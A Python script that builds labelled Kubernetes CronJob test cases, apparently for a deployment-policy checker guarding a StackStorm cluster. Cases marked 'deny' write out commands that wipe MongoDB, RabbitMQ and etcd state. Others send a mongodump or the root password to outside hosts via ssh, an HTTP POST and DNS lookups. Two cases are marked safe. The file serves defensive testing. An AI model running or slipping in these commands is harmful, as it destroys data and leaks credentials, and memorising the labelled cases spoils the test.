from lib import *
ST2VOL = '''                  volumeMounts:
                    - {name: st2-config-vol, mountPath: /etc/st2/st2.docker.conf, subPath: st2.docker.conf}
                    - {name: st2-config-vol, mountPath: /etc/st2/st2.user.conf, subPath: st2.user.conf}
                    - {name: st2-config-secrets-vol, mountPath: /etc/st2/st2.secrets.conf, subPath: st2.secrets.conf, readOnly: true}
              volumes:
                - {name: st2-config-vol, configMap: {name: st2-config}}
                - {name: st2-config-secrets-vol, secret: {secretName: st2-config-secrets, defaultMode: 288}}
'''
CHAIN = '--config-file=/etc/st2/st2.conf --config-file=/etc/st2/st2.docker.conf --config-file=/etc/st2/st2.user.conf --config-file=/etc/st2/st2.secrets.conf'
def job(id, exp, cls, reason, script, image="mongo:4.4.29", env=None, cron=True, extra_vol=""):
    envs = env or """
                    - name: MONGO_INITDB_ROOT_USERNAME
                      valueFrom: {secretKeyRef: {name: mongodb-admin, key: user}}
                    - name: MONGO_INITDB_ROOT_PASSWORD
                      valueFrom: {secretKeyRef: {name: mongodb-admin, key: password}}"""
    y = f"""
    apiVersion: batch/v1
    kind: CronJob
    metadata: {{name: red10-maint}}
    spec:
      schedule: "15 3 * * *"
      concurrencyPolicy: Forbid
      jobTemplate:
        spec:
          template:
            spec:
              restartPolicy: OnFailure
              securityContext: {{runAsNonRoot: true, runAsUser: 999, runAsGroup: 999, seccompProfile: {{type: RuntimeDefault}}}}
              containers:
                - name: maint
                  image: {image}
                  command: [sh, -c]
                  args:
                    - |
{indent(script, 22)}                  env:{envs}
                  resources: {{requests: {{cpu: 50m, memory: 64Mi}}, limits: {{cpu: 500m, memory: 256Mi}}}}
                  securityContext: {{allowPrivilegeEscalation: false, capabilities: {{drop: [ALL]}}}}
{extra_vol}"""
    case(id, exp, cls, reason, "  - cron.yaml\n", files={"cron.yaml": y})
MONGO = 'mongo --quiet "mongodb://${MONGO_INITDB_ROOT_USERNAME}:${MONGO_INITDB_ROOT_PASSWORD}@mongodb-0.mongodb:27017,mongodb-1.mongodb:27017,mongodb-2.mongodb:27017/st2?authSource=admin&replicaSet=rs0"'
job("dst-mongo-deletemany-all", "deny", "destructive",
    "nightly CronJob deleting every document of every collection of st2's database (deleteMany({}) per collection): same loss as dropDatabase, spelt differently",
    MONGO + " --eval 'db.getCollectionNames().forEach(function(c){ db.getCollection(c).deleteMany({}); })'\n")
job("dst-mongo-drop-collections", "deny", "destructive",
    "nightly CronJob dropping the execution, liveaction and workflow collections: running and past executions lost",
    MONGO + " --eval '[\"action_execution_d_b\",\"live_action_d_b\",\"workflow_execution_d_b\",\"task_execution_d_b\"].forEach(function(c){ db[c].drop(); })'\n")
job("dst-st2-purge-incomplete", "deny", "destructive",
    "st2-purge-executions with --purge-incomplete and a timestamp of now: deletes running and scheduled executions (in-flight workflows lose their records) every night",
    "/opt/stackstorm/st2/bin/st2-purge-executions " + CHAIN + " --timestamp=\"$(date -u +%Y-%m-%dT%H:%M:%S.000000Z)\" --purge-incomplete\n",
    image="stackstorm/st2actionrunner:3.8.1", env=" []", extra_vol=ST2VOL)
job("dst-rabbit-purge-work-queue", "deny", "destructive",
    "nightly `rabbitmqctl purge_queue` of st2's action queues: every scheduled-but-not-started execution dropped",
    "for q in st2.actionrunner.work st2.actionrunner.req st2.scheduler.request; do rabbitmqctl -n rabbit@rabbitmq-0.rabbitmq-discovery purge_queue \"$q\"; done\n",
    image="rabbitmq:3.12.14", env="""
                    - name: RABBITMQ_ERLANG_COOKIE
                      valueFrom: {secretKeyRef: {name: rabbitmq, key: rabbitmq-erlang-cookie}}
                    - {name: RABBITMQ_USE_LONGNAME, value: "true"}""")
job("dst-etcd-v2-rm-recursive", "deny", "destructive",
    "ETCDCTL_API=2 `etcdctl rm --recursive /tooz` every night: st2's held coordination locks vanish under running workflows and concurrency policies (two holders of one lock)",
    "ETCDCTL_API=2 etcdctl --endpoints=http://etcd:2379 rm --recursive /tooz\n", image="bitnamilegacy/etcd:3.5.17", env=" []")
# exfiltration variants: a mongo init container dumps into an emptyDir, a second image ships it out
def exjob(id, reason, image, script, dump=True):
    init = """
              initContainers:
                - name: dump
                  image: mongo:4.4.29
                  command: [sh, -c, 'mongodump --uri "mongodb://${U}:${P}@mongodb-0.mongodb:27017,mongodb-1.mongodb:27017,mongodb-2.mongodb:27017/?authSource=admin&replicaSet=rs0" --archive=/dump/st2.gz --gzip']
                  env:
                    - {name: U, valueFrom: {secretKeyRef: {name: mongodb-admin, key: user}}}
                    - {name: P, valueFrom: {secretKeyRef: {name: mongodb-admin, key: password}}}
                  volumeMounts: [{name: dump, mountPath: /dump}]
                  resources: {requests: {cpu: 50m, memory: 64Mi}, limits: {cpu: 500m, memory: 256Mi}}
                  securityContext: {allowPrivilegeEscalation: false, capabilities: {drop: [ALL]}}""" if dump else ""
    y = f"""
    apiVersion: batch/v1
    kind: CronJob
    metadata: {{name: red10-offsite}}
    spec:
      schedule: "30 3 * * *"
      jobTemplate:
        spec:
          template:
            spec:
              restartPolicy: OnFailure
              securityContext: {{runAsNonRoot: true, runAsUser: 999, runAsGroup: 999, seccompProfile: {{type: RuntimeDefault}}}}{init}
              containers:
                - name: ship
                  image: {image}
                  command: [sh, -c]
                  args:
                    - |
{indent(script, 22)}                  env:
                    - {{name: P, valueFrom: {{secretKeyRef: {{name: mongodb-admin, key: password}}}}}}
                  volumeMounts: [{{name: dump, mountPath: /dump}}]
                  resources: {{requests: {{cpu: 10m, memory: 32Mi}}, limits: {{cpu: 200m, memory: 128Mi}}}}
                  securityContext: {{allowPrivilegeEscalation: false, capabilities: {{drop: [ALL]}}}}
              volumes: [{{name: dump, emptyDir: {{}}}}]
"""
    case(id, "deny", "exfiltration", reason, "  - cron.yaml\n", files={"cron.yaml": y})
exjob("exf-mongodump-ssh", "nightly mongodump of st2's database shipped over ssh (alpine/git carries openssh) to a host outside the cluster that is no listed backup location",
      "alpine/git:2.45.2", "ssh -o StrictHostKeyChecking=no backup@203.0.113.50 'cat > /srv/st2.gz' < /dump/st2.gz\n")
exjob("exf-mongodump-python", "nightly mongodump uploaded by an inline python3 urllib POST to an outside URL",
      "python:3.12-slim", "python3 -c \"import urllib.request; urllib.request.urlopen(urllib.request.Request('https://dumps.partner-analytics.io/upload', data=open('/dump/st2.gz','rb').read()))\"\n")
exjob("exf-secret-dns", "MongoDB root password leaked over DNS: hex chunks looked up as names under an outside zone with busybox nslookup (no HTTP client at all)",
      "busybox:1.36.1", "for c in $(printf '%s' \"$P\" | od -An -tx1 | tr -d ' \\n' | fold -w 60); do nslookup \"$c.x.exfil-zone.net\" || true; done\n", dump=False)
job("dst-safe-mongodump-local", "allow", "destructive-safe",
    "nightly mongodump to the pod's own scratch volume with a 7-day retention check: reads only",
    "mongodump --uri \"mongodb://${MONGO_INITDB_ROOT_USERNAME}:${MONGO_INITDB_ROOT_PASSWORD}@mongodb-0.mongodb:27017/?authSource=admin&replicaSet=rs0\" --archive=/tmp/st2.gz --gzip && ls -l /tmp/st2.gz\n")
job("dst-safe-st2-purge-old", "allow", "destructive-safe",
    "st2-purge-executions of completed executions older than 90 days (what the garbage collector's TTL does)",
    "/opt/stackstorm/st2/bin/st2-purge-executions " + CHAIN + " --timestamp=\"$(date -u -d '90 days ago' +%Y-%m-%dT%H:%M:%S.000000Z)\"\n",
    image="stackstorm/st2actionrunner:3.8.1", env=" []", extra_vol=ST2VOL)
